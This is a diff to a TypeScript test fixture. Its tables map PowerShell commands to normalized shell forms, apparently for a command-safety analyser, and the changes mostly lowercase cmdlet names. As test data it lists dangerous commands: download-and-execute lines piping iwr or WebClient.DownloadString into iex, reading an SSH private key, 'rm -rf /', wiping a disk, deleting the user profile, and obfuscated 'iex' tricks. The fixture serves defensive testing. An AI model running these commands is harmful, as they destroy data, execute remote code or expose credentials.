@@ -5,15 +5,15 @@ import { show } from "./show.ts";
 
 const tables: Record<string, Record<string, string>> = {
   commands: {
-    "Remove-Item -Recurse -Force .\\node_modules": "Remove-Item -Recurse -Force .\\node_modules",
+    "Remove-Item -Recurse -Force .\\node_modules": "remove-item -Recurse -Force .\\node_modules",
     "Remove-Item -Recurse -Force ..\\variant-a, ..\\variant-b":
-      "Remove-Item -Recurse -Force ..\\variant-a -Force ..\\variant-b",
-    "Copy-Item -Path a, b -Destination C:\\c": "Copy-Item -Path a -Path b -Destination C:\\c",
-    "Clear-Disk -Number 1 -RemoveData -Confirm:$false": "Clear-Disk -Number 1 -RemoveData -Confirm:'False'",
+      "remove-item -Recurse -Force ..\\variant-a -Force ..\\variant-b",
+    "Copy-Item -Path a, b -Destination C:\\c": "copy-item -Path a -Path b -Destination C:\\c",
+    "Clear-Disk -Number 1 -RemoveData -Confirm:$false": "clear-disk -Number 1 -RemoveData -Confirm:'False'",
     "npm run build `\n  --if-present": "npm run build --if-present",
     "r`m -Recurse x": "rm -Recurse x",
     "rm “C:\\x y”": 'rm "C:\\x y"',
-    "Microsoft.PowerShell.Management\\Remove-Item x": "Remove-Item x",
+    "Microsoft.PowerShell.Management\\Remove-Item x": "remove-item x",
     "npm test && git push || echo no": "npm test && git push || echo no",
     "$a = gcm x || gcm y": 'a="$(gcm x)" || gcm y',
     "npm start &": "npm start &",
@@ -46,8 +46,8 @@ const tables: Record<string, Record<string, string>> = {
   },
   variables: {
     "Copy-Item ~/.claude/settings.json $env:TEMP\\settings.json.bak":
-      'Copy-Item ~/.claude/settings.json "$env:TEMP"\\settings.json.bak',
-    "Remove-Item -Recurse $env:USERPROFILE\\*": 'Remove-Item -Recurse "$env:USERPROFILE"\\*',
+      'copy-item ~/.claude/settings.json "$env:TEMP"\\settings.json.bak',
+    "Remove-Item -Recurse $env:USERPROFILE\\*": 'remove-item -Recurse "$env:USERPROFILE"\\*',
     '$env:NODE_ENV = "test"; npm test': 'env:NODE_ENV="test"; npm test',
     "echo $global:X ${env:ProgramFiles(x86)} $Home $PWD": 'echo "$x" "$env:PROGRAMFILES(X86)" "$HOME" "$PWD"',
     'echo "$x.Name $($x.Name) $env:Path: `$y `"q`" $"': 'echo "$x.Name <$x> $env:PATH: $y "q" $"',
@@ -58,16 +58,17 @@ const tables: Record<string, Record<string, string>> = {
     "$a, $b = 1, 2": "a=1 b=2",
     "$x.Foo = rm y": '_="<<$x> $(rm y)>"',
     '$p = @{ Path = "C:\\x"; Recurse = $true }; Remove-Item @p':
-      "p='Path='\"C:\\x\"'; Recurse=''True'; Remove-Item -Path \"C:\\x\" -Recurse:True",
-    '$a = "-Recurse", "x"; Remove-Item @a': 'a=("-Recurse" "x"); Remove-Item "$a[@]"',
+      "p='Path='\"C:\\x\"'; Recurse=''True'; remove-item -Path \"C:\\x\" -Recurse:True",
+    '$a = "-Recurse", "x"; Remove-Item @a': 'a=("-Recurse" "x"); remove-item "$a[@]"',
   },
   strings: {
     '@"\nhello $name $(Get-Date)\n"@ | Set-Content out.txt':
-      'write-output "hello $name $(Get-Date)" | Set-Content out.txt',
-    "@'\nrm -rf / $x\n'@ | Set-Content out.txt": "write-output 'rm -rf / $x' | Set-Content out.txt",
+      'write-output "hello $name $(get-date)" | set-content out.txt',
+    "@'\nrm -rf / $x\n'@ | Set-Content out.txt": "write-output 'rm -rf / $x' | set-content out.txt",
     '"C:\\" + $name + "\\x"': 'write-output "C:\\""$name""\\x"',
     '"{1}{0}" -f "x","ie"': 'write-output "ie""x"',
     '& ("ie"+"x") "rm x"': '"ie""x" "rm x"',
+    'echo "$("a", "b")"': "echo \"a' 'b\"",
     '$x -replace "a","b" -split ","': 'write-output "<$x>"',
   },
   pipelines: {
@@ -76,7 +77,7 @@ const tables: Record<string, Record<string, string>> = {
     "iwr https://x.y/a.ps1 | iex": "iwr https://x.y/a.ps1 | iex",
     "a |\n  b": "a | b",
     "a\n  | b": "a | b",
-    "git status 2>&1 | Out-File log.txt": "git status 2>& 1 | Out-File log.txt",
+    "git status 2>&1 | Out-File log.txt": "git status 2>& 1 | out-file log.txt",
     "foo > $null 2> err.txt *> all.txt": "foo > /dev/null 2> err.txt &> all.txt",
     '"x" >> a.txt': 'write-output "x" >> a.txt',
     "1..5 | % { $_ * 2 }": "write-output \"<>\" | % ' $_ * 2 '",
@@ -85,9 +86,9 @@ const tables: Record<string, Record<string, string>> = {
     '[System.IO.Directory]::Delete("C:\\x", $true)': "[system.io.directory]::delete \"C:\\x\" 'True'",
     '[IO.File]::ReadAllText($env:USERPROFILE + "\\.ssh\\id_rsa")':
       '[system.io.file]::readalltext "$env:USERPROFILE""\\.ssh\\id_rsa"',
-    "(Get-Item C:\\x).Delete($true)": ".delete \"$(Get-Item C:\\x)\" 'True'",
+    "(Get-Item C:\\x).Delete($true)": ".delete \"$(get-item C:\\x)\" 'True'",
     'iex (New-Object Net.WebClient).DownloadString("https://x.y/a")':
-      'iex "$(.downloadstring "$(New-Object Net.WebClient)" "https://x.y/a")"',
+      'iex "$(.downloadstring "$(new-object Net.WebClient)" "https://x.y/a")"',
     '$x."De$y"()': '."De$y" "$x"',
     '[Convert]::ToBase64String([IO.File]::ReadAllBytes("a"))':
       '[system.convert]::tobase64string "$([system.io.file]::readallbytes "a")"',
@@ -96,34 +97,34 @@ const tables: Record<string, Record<string, string>> = {
     "$x?.Foo()": '.foo "$x?"',
   },
   blocks: {
-    "$sb = { Remove-Item x }; & $sb; $sb.Invoke()": "function $sb { Remove-Item x }; sb=' Remove-Item x '; $sb; $sb",
-    "& { Remove-Item x }": "{ Remove-Item x }",
+    "$sb = { Remove-Item x }; & $sb; $sb.Invoke()": "function $sb { remove-item x }; sb=' Remove-Item x '; $sb; $sb",
+    "& { Remove-Item x }": "{ remove-item x }",
     "& { param($p) Remove-Item $p } C:\\x":
-      '{ function $block { for p in args do { Remove-Item "$p" } }; $block C:\\x }',
+      '{ function $block { for p in args do { remove-item "$p" } }; $block C:\\x }',
     "Invoke-Command -ComputerName srv -ScriptBlock { Restart-Service x }":
-      "Invoke-Command -ComputerName srv -ScriptBlock ' Restart-Service x '",
+      "invoke-command -ComputerName srv -ScriptBlock ' Restart-Service x '",
     "Set-Alias x Remove-Item; x C:\\": 'function x { Remove-Item "$@" }; x C:\\',
   },
   statements: {
     'if (Test-Path x) { rm x } elseif ($y -eq 3) { "no" } else { del z }':
-      'if Test-Path x then { rm x } elseif write-output "<$y>" then { write-output "no" } else { del z }',
+      'if test-path x then { rm x } elseif write-output "<$y>" then { write-output "no" } else { del z }',
     "if (-not (Test-Path x)) { New-Item x | Out-Null }":
-      'if write-output "<$(Test-Path x)>" then { New-Item x | Out-Null }',
-    "foreach ($f in Get-ChildItem) { Remove-Item $f }": 'for f in "$(Get-ChildItem)" do { Remove-Item "$f" }',
-    'foreach ($f in "a", "b") { Remove-Item $f }': 'for f in "a" "b" do { Remove-Item "$f" }',
+      'if write-output "<$(test-path x)>" then { new-item x | out-null }',
+    "foreach ($f in Get-ChildItem) { Remove-Item $f }": 'for f in "$(get-childitem)" do { remove-item "$f" }',
+    'foreach ($f in "a", "b") { Remove-Item $f }': 'for f in "a" "b" do { remove-item "$f" }',
     "for ($i=0; $i -lt 10; $i++) { Write-Host $i }":
-      'i=0; while write-output "<$i>" do { Write-Host "$i"; write-output "<$i>" }',
-    "while ($true) { Start-Sleep 1 }": "while write-output 'True' do { Start-Sleep 1 }",
+      'i=0; while write-output "<$i>" do { write-host "$i"; write-output "<$i>" }',
+    "while ($true) { Start-Sleep 1 }": "while write-output 'True' do { start-sleep 1 }",
     "do { a } until (b)": "until b do { a }",
     "try { a } catch [System.Exception] { b } finally { c }": "{ a }; if  then { b }; { c }",
     'switch -Regex ($x) { "a.*" { rm a } default { rm b } }':
       'write-output "$x"; if write-output "a.*" then { rm a } elseif  then { rm b }',
     'function Clean($dir, $x = "a") { Remove-Item $dir }; Clean build':
-      'function clean { for dir in args do { for x in "a" "$@" do { Remove-Item "$dir" } } }; Clean build',
+      'function clean { for dir in args do { for x in "a" "$@" do { remove-item "$dir" } } }; clean build',
     "function Clean { [CmdletBinding()] param([Parameter(Mandatory=$true)][string]$dir) Remove-Item $dir }":
-      'function clean { for dir in args do { Remove-Item "$dir" } }',
-    '$d = if ($a) { "x" } else { Get-Y }': 'd="$(if write-output "$a" then { write-output "x" } else { Get-Y })"',
-    "return (Get-Date)": 'write-output "$(Get-Date)"',
+      'function clean { for dir in args do { remove-item "$dir" } }',
+    '$d = if ($a) { "x" } else { Get-Y }': 'd="$(if write-output "$a" then { write-output "x" } else { get-y })"',
+    "return (Get-Date)": 'write-output "$(get-date)"',
     "npx tsc; if ($LASTEXITCODE -ne 0) { exit 1 }":
       'npx tsc; if write-output "<$lastexitcode>" then { write-output 1 }',
     "cd C:\\x; Set-Location -Path ..; Push-Location y; Pop-Location": "cd C:\\x; cd ..; pushd y; popd",
